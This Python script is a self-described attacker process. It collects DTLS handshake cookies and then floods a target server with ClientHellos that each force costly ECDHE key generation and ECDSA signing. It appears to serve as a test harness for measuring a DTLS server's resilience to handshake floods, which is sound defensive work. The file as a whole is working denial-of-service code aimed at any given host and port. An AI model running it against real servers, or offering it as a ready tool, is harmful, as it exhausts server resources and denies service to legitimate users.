"""An attacker process: precomputes cookies from one source address, then
blasts ClientHellos carrying them at a server as fast as sendmmsg goes.

    python hello_blaster.py HOST PORT SOURCE [--ports N] [--hellos-per-port M]

Each of N ports of SOURCE gets M cookies (one per ClientHello random, so each
blasted hello is a new handshake, not a retransmission); the hellos offer
only TLS_ECDHE_ECDSA_WITH_AES_128_CCM_8, so every one the server takes costs
it an ECDHE key and a signature. Prints ``ready`` once the cookies are in,
blasts until its standard input closes (at most ``--limit`` seconds), then
prints one JSON line: ``{"cookies", "sent", "seconds"}``.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import sys
import threading
import time
from dataclasses import replace
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from front_door import cookie_of, ecdsa_hello, hello_datagram

from dtlsfast import _core

BATCH = 64


def _cookies(sock: socket.socket, server: tuple[str, int], count: int) -> list[bytes]:
    out = []
    for _ in range(count):
        hello = ecdsa_hello()
        sock.sendto(hello_datagram(hello), server)
        sock.settimeout(2.0)
        cookie = cookie_of(sock.recv(4096))
        if cookie is not None:
            out.append(hello_datagram(replace(hello, cookie=cookie), 1, 1))
    return out


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("source")
    parser.add_argument("--limit", type=float, default=60.0)
    parser.add_argument("--ports", type=int, default=16)
    parser.add_argument("--hellos-per-port", type=int, default=64)
    args = parser.parse_args()
    server = (args.host, args.port)
    sockets = []
    batches = []
    for _ in range(args.ports):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((args.source, 0))
        datagrams = _cookies(sock, server, args.hellos_per_port)
        sock.setblocking(False)
        sockets.append((sock, _core.BatchSocket(sock.fileno(), BATCH, 4096)))
        items = [(d, server) for d in datagrams]
        batches.append([items[i : i + BATCH] for i in range(0, len(items), BATCH)])
    cookies = sum(len(b) for port in batches for b in port)
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    print("ready", flush=True)
    sent = 0
    started = time.monotonic()
    deadline = started + args.limit
    while not stop.is_set() and time.monotonic() < deadline:
        for (_, io), port_batches in zip(sockets, batches, strict=True):
            for batch in port_batches:
                with contextlib.suppress(OSError):  # a full socket buffer
                    sent += io.send(batch)
    seconds = time.monotonic() - started
    for sock, _ in sockets:
        sock.close()
    print(json.dumps({"cookies": cookies, "sent": sent, "seconds": seconds}), flush=True)


if __name__ == "__main__":
    main()
